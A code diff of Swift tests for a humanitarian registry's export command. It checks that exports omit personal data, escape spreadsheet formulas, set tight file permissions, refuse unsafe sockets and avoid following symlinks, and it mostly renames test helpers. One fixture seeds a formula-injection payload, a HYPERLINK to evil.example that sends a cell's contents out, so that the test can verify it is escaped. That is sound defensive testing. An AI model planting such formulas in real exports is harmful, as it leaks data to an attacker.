@@ -1,3 +1,4 @@
+import CorridorTestSupport
 import Foundation
 import Testing
 
@@ -7,9 +8,9 @@ import Testing
     @Test func casesExportWithoutPersonalDataAndLibhxlValidatesThem() async throws {
         let server = try await InProcessServer.startWithRegistry()
         let socket = ["--socket", server.socketPath]
-        _ = try await CorridorctlRun.launch(["site", "add", "douma", "--name", "Douma", "--kind", "city"] + socket)
+        _ = try await Corridorctl.run(["site", "add", "douma", "--name", "Douma", "--kind", "city"] + socket)
         for index in 0..<5 {
-            let run = try await CorridorctlRun.launch([
+            let run = try await Corridorctl.run([
                 "case", "register", "--site", "douma", "--age-months", "\(6 + index * 100)", "--sex", index.isMultiple(of: 2) ? "female" : "male",
                 "--precedence", "urgent", "--condition", "cancer", "--consent", "yes", "--name", "Secret Name \(index)",
                 "--date-of-birth", bornAged(months: 6 + index * 100), "--identity-number", "NID-SECRET-\(index)", "--contact", "+963-555-\(index)",
@@ -18,8 +19,8 @@ import Testing
             #expect(run.status == 0, "\(run.stderr)")
         }
         let hxlPath = server.directory + "/cases.csv"
-        let hxl = try await CorridorctlRun.launch(["export", "cases", "--format", "hxl", "--output", hxlPath, "--page-size", "2"] + socket)
-        let json = try await CorridorctlRun.launch(["export", "cases", "--format", "json", "--site", "douma"] + socket)
+        let hxl = try await Corridorctl.run(["export", "cases", "--format", "hxl", "--output", hxlPath, "--page-size", "2"] + socket)
+        let json = try await Corridorctl.run(["export", "cases", "--format", "json", "--site", "douma"] + socket)
         let text = (try? String(contentsOfFile: hxlPath, encoding: .utf8)) ?? ""
         #expect(hxl.status == 0, "\(hxl.stderr)")
         #expect(hxl.stderr.contains("exported 5 cases to \(hxlPath)"))
@@ -37,7 +38,7 @@ import Testing
             for index in 0..<5 { #expect(!output.contains(bornAged(months: 6 + index * 100))) }
             #expect(!output.contains("+963"))
         }
-        let check = try await runHXLCheck(["cases=\(hxlPath)"])
+        let check = try await TestProcess.hxlCheck(["cases=\(hxlPath)"])
         await server.stop()
         #expect(check.status == 0, "\(check.output)")
     }
@@ -45,8 +46,8 @@ import Testing
     @Test func anExportTheRegistryCannotAnswerLeavesNoFile() async throws {
         let server = try await InProcessServer.startWithRegistry()
         let path = server.directory + "/figures.json"
-        let run = try await CorridorctlRun.launch(["export", "figures", "--format", "json", "--output", path, "--socket", server.socketPath])
-        let bad = try await CorridorctlRun.launch(["export", "movements", "--kind", "boat", "--socket", server.socketPath])
+        let run = try await Corridorctl.run(["export", "figures", "--format", "json", "--output", path, "--socket", server.socketPath])
+        let bad = try await Corridorctl.run(["export", "movements", "--kind", "boat", "--socket", server.socketPath])
         if run.status != 0 {
             #expect(!FileManager.default.fileExists(atPath: path))
             #expect(try FileManager.default.contentsOfDirectory(atPath: server.directory).allSatisfy { !$0.contains("partial") })
@@ -69,7 +70,7 @@ extension ExportCommandTests {
              "--note", #"=HYPERLINK("http://evil.example/?"&K3,"details")"#],
         ]
         for arguments in setup {
-            let run = try await CorridorctlRun.launch(arguments + socket)
+            let run = try await Corridorctl.run(arguments + socket)
             #expect(run.status == 0, "\(arguments): \(run.stderr)")
         }
     }
@@ -84,14 +85,14 @@ extension ExportCommandTests {
         let server = try await InProcessServer.startWithRegistry()
         try await seedFormulaFigure(server)
         let path = server.directory + "/figures.csv"
-        let run = try await CorridorctlRun.launch(["export", "figures", "--output", path, "--socket", server.socketPath])
+        let run = try await Corridorctl.run(["export", "figures", "--output", path, "--socket", server.socketPath])
         #expect(run.status == 0, "\(run.stderr)")
         #expect(Self.mode(path).map { $0 & 0o7777 } == 0o600)
         let text = (try? String(contentsOfFile: path, encoding: .utf8)) ?? ""
         #expect(text.contains(#""'=HYPERLINK(""http://evil.example/?""&K3,""details"")""#), "\(text)")
         #expect(text.contains(",'@briefing,"), "\(text)")
         #expect(text.contains(",500,"), "\(text)")
-        let check = try await runHXLCheck(["figures=\(path)"])
+        let check = try await TestProcess.hxlCheck(["figures=\(path)"])
         await server.stop()
         #expect(check.status == 0, "\(check.output)")
     }
@@ -107,9 +108,9 @@ extension ExportCommandTests {
         let environment = ["XDG_RUNTIME_DIR": runtime]
 
         #expect(chmod(directory, 0o777) == 0)
-        let refused = try await CorridorctlRun.launch(["export", "figures"], environment: environment)
+        let refused = try await Corridorctl.run(["export", "figures"], environment: environment)
         #expect(chmod(directory, 0o700) == 0)
-        let served = try await CorridorctlRun.launch(["export", "figures"], environment: environment)
+        let served = try await Corridorctl.run(["export", "figures"], environment: environment)
         await server.stop()
         #expect(refused.status != 0)
         #expect(refused.stderr.contains("PERMISSION_DENIED: refusing to connect to \(directory)/corridord.sock"), "\(refused.stderr)")
@@ -121,8 +122,8 @@ extension ExportCommandTests {
     @Test func groupReadableMakesTheExport0640() async throws {
         let server = try await InProcessServer.startWithRegistry()
         let path = server.directory + "/figures.json"
-        let run = try await CorridorctlRun.launch(["export", "figures", "--format", "json", "--output", path, "--group-readable", "--socket", server.socketPath])
-        let withoutOutput = try await CorridorctlRun.launch(["export", "figures", "--group-readable", "--socket", server.socketPath])
+        let run = try await Corridorctl.run(["export", "figures", "--format", "json", "--output", path, "--group-readable", "--socket", server.socketPath])
+        let withoutOutput = try await Corridorctl.run(["export", "figures", "--group-readable", "--socket", server.socketPath])
         let mode = Self.mode(path)
         await server.stop()
         #expect(run.status == 0, "\(run.stderr)")
@@ -137,11 +138,11 @@ extension ExportCommandTests {
         try "precious".write(toFile: victim, atomically: true, encoding: .utf8)
         let path = server.directory + "/figures.csv"
         #expect(symlink(victim, path) == 0)
-        let run = try await CorridorctlRun.launch(["export", "figures", "--output", path, "--socket", server.socketPath])
+        let run = try await Corridorctl.run(["export", "figures", "--output", path, "--socket", server.socketPath])
         let existing = server.directory + "/old.csv"
         try "old".write(toFile: existing, atomically: true, encoding: .utf8)
         #expect(chmod(existing, 0o644) == 0)
-        let over = try await CorridorctlRun.launch(["export", "figures", "--output", existing, "--socket", server.socketPath])
+        let over = try await Corridorctl.run(["export", "figures", "--output", existing, "--socket", server.socketPath])
         #expect(run.status == 0, "\(run.stderr)")
         #expect((try? String(contentsOfFile: victim, encoding: .utf8)) == "precious")
         #expect(Self.mode(path).map { $0 & S_IFMT } == S_IFREG)
@@ -152,26 +153,4 @@ extension ExportCommandTests {
         #expect((try? String(contentsOfFile: existing, encoding: .utf8))?.hasPrefix("Figure ID") == true)
         await server.stop()
     }
-}
-
-/// Runs Tests/Interop/hxl_check.py (needs python3 and libhxl), waiting on a
-/// thread of its own rather than one of the threads async tests share.
-func runHXLCheck(_ arguments: [String]) async throws -> (status: Int32, output: String) {
-    try await withCheckedThrowingContinuation { continuation in
-        Thread { continuation.resume(with: Result { try runHXLCheckBlocking(arguments) }) }.start()
-    }
-}
-
-private func runHXLCheckBlocking(_ arguments: [String]) throws -> (status: Int32, output: String) {
-    let root = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
-    let process = Process()
-    process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
-    process.arguments = [ProcessInfo.processInfo.environment["PYTHON"] ?? "python3", root.appendingPathComponent("Tests/Interop/hxl_check.py").path] + arguments
-    let pipe = Pipe()
-    process.standardOutput = pipe
-    process.standardError = pipe
-    try process.run()
-    let output = String(decoding: pipe.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
-    process.waitUntilExit()
-    return (process.terminationStatus, output)
 }
